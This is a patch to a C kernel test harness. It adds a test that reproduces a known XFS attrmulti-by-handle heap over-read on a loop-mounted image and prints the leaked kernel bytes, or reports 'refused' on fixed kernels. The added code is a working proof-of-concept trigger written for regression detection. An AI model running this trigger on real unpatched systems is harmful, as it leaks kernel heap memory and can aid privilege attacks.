@@ -39,9 +39,11 @@
 #include <sys/reboot.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/sysmacros.h>
 #include <sys/types.h>
 #include <sys/utsname.h>
 #include <sys/wait.h>
+#include <sys/xattr.h>
 #include <linux/fb.h>
 #include <linux/futex.h>
 #ifdef __i386__
@@ -912,6 +914,119 @@ static void child_bug_syslog_partial(void)
 	_exit(0);
 }
 
+/*
+ * XFS_IOC_ATTRMULTI_BY_HANDLE with the kernel-only flag ATTR_KERNOVAL (no
+ * CVE; fixed by "xfs: clear kernel only flags in
+ * XFS_IOC_ATTRMULTI_BY_HANDLE", 953aa9d136f5, 5.6; never in 3.2-4.4.y):
+ * xfs_attrmulti_attr_get() allocates the caller's am_length (kmalloc()
+ * first on every branch here), the flag makes xfs_attr_get() store the
+ * attribute's real length in am_length without copying the value, and
+ * copy_to_user() then copies that many bytes out of the small object: a
+ * heap over-read by the holder of CAP_SYS_ADMIN on any XFS mount.  The
+ * filesystem is /xfs.img (made by ci/boot.sh with mkfs.xfs where the build
+ * has XFS) on /dev/loop0; a 256-byte value read into a 32-byte buffer
+ * copies 256 bytes from a kmalloc-32 object.  A kernel that masks the flag
+ * (or 6.1, which ignores it) says -ERANGE: "refused".
+ */
+#define UC_LOOP_SET_FD		0x4C00
+#define UC_ATTR_KERNOVAL	0x2000
+#define UC_ATTR_OP_GET		1
+#define UC_XFS_VALUE_LEN	256
+#define UC_XFS_ASKED_LEN	32
+
+struct uc_xfs_handlereq {		/* struct xfs_fsop_handlereq */
+	__u32 fd;
+	void *path;
+	__u32 oflags;
+	void *ihandle;
+	__u32 ihandlen;
+	void *ohandle;
+	__u32 *ohandlen;
+};
+
+struct uc_xfs_attr_multiop {		/* struct xfs_attr_multiop */
+	__u32 am_opcode;
+	__s32 am_error;
+	void *am_attrname;
+	void *am_attrvalue;
+	__u32 am_length;
+	__u32 am_flags;
+};
+
+struct uc_xfs_attrmulti_req {		/* struct xfs_fsop_attrmulti_handlereq */
+	struct uc_xfs_handlereq hreq;
+	__u32 opcount;
+	struct uc_xfs_attr_multiop *ops;
+};
+
+#define UC_XFS_IOC_PATH_TO_HANDLE	_IOWR('X', 105, struct uc_xfs_handlereq)
+#define UC_XFS_IOC_ATTRMULTI		_IOW('X', 123, struct uc_xfs_attrmulti_req)
+
+static void child_bug_xfs_attrmulti(void)
+{
+	static const char path[] = "/tmp/xfs/uc-bug-xfs";
+	static unsigned char value[UC_XFS_VALUE_LEN], buf[4096];
+	unsigned char *got = buf;
+	unsigned char handle[128];
+	__u32 hlen = sizeof(handle);
+	struct uc_xfs_attr_multiop op = {
+		.am_opcode = UC_ATTR_OP_GET, .am_attrname = "uc",
+		.am_attrvalue = got, .am_length = UC_XFS_ASKED_LEN,
+		.am_flags = UC_ATTR_KERNOVAL,
+	};
+	struct uc_xfs_attrmulti_req req = { .opcount = 1, .ops = &op };
+	struct uc_xfs_handlereq hreq = {
+		.path = (void *)path, .ohandle = handle, .ohandlen = &hlen,
+	};
+	int img, loop, fd, dir;
+
+	drop_exit_user_accesses();
+	img = open("/xfs.img", O_RDWR);
+	if (img < 0)
+		_exit(16 + EOPNOTSUPP);
+	loop = open("/dev/loop0", O_RDWR);
+	if (loop < 0 && errno == ENOENT &&
+	    mknod("/dev/loop0", S_IFBLK | 0600, makedev(7, 0)) == 0)
+		loop = open("/dev/loop0", O_RDWR);
+	if (loop < 0)
+		_exit(16 + EOPNOTSUPP);
+	if (ioctl(loop, UC_LOOP_SET_FD, img) < 0 && errno != EBUSY)
+		_exit(12);
+	mkdir("/tmp/xfs", 0755);
+	if (mount("/dev/loop0", "/tmp/xfs", "xfs", 0, NULL) < 0 &&
+	    errno != EBUSY)
+		_exit(errno == ENODEV ? 16 + EOPNOTSUPP : 13);
+	fd = open(path, O_RDWR | O_CREAT, 0644);
+	if (fd < 0)
+		_exit(14);
+	memset(value, 'U', sizeof(value));
+	if (fsetxattr(fd, "user.uc", value, sizeof(value), 0) < 0)
+		_exit(16 + errno);
+	close(fd);
+	/* Handle calls go through a directory of the filesystem. */
+	dir = open("/tmp/xfs", O_RDONLY | O_DIRECTORY);
+	if (dir < 0)
+		_exit(14);
+	if (ioctl(dir, UC_XFS_IOC_PATH_TO_HANDLE, &hreq) < 0)
+		_exit(16 + errno);
+	req.hreq.ihandle = handle;
+	req.hreq.ihandlen = hlen;
+	if (ioctl(dir, UC_XFS_IOC_ATTRMULTI, &req) < 0)
+		_exit(16 + errno);
+	if (op.am_error == -ERANGE)
+		_exit(REFUSED_EXIT);
+	if (op.am_error)
+		_exit(16 + (op.am_error < 0 ? -op.am_error : 1));
+	if (op.am_length <= UC_XFS_ASKED_LEN)
+		_exit(REFUSED_EXIT);
+	got += UC_XFS_ASKED_LEN;
+	emit("# bug_xfs_attrmulti_leak: %u bytes for a %d-byte buffer, past "
+	     "it: %02x %02x %02x %02x %02x %02x %02x %02x", op.am_length,
+	     UC_XFS_ASKED_LEN, got[0], got[1], got[2], got[3], got[4], got[5],
+	     got[6], got[7]);
+	_exit(0);
+}
+
 static void save_printk_time(void)
 {
 	char c = 'N';
@@ -1172,7 +1287,7 @@ int main(int argc, char **argv)
 		     strerror(-ret));
 		power_off();
 	}
-	emit("1..%d", UC_NR_CASES + 5);
+	emit("1..%d", UC_NR_CASES + 6);
 	pace_for_warn_mode();
 
 	for (test = 0; test < UC_NR_CASES; test++)
@@ -1180,6 +1295,8 @@ int main(int argc, char **argv)
 	passed += run_user_case("vm86_return", child_vm86, ++number);
 	passed += run_user_case("kcore_devmem_read", child_kcore_devmem, ++number);
 	passed += run_user_case("bug_fb_cmap_leak", child_bug_fb_cmap, ++number);
+	passed += run_user_case("bug_xfs_attrmulti_leak",
+				child_bug_xfs_attrmulti, ++number);
 	save_printk_time();
 	passed += run_user_case("bug_syslog_partial_leak",
 				child_bug_syslog_partial, ++number);
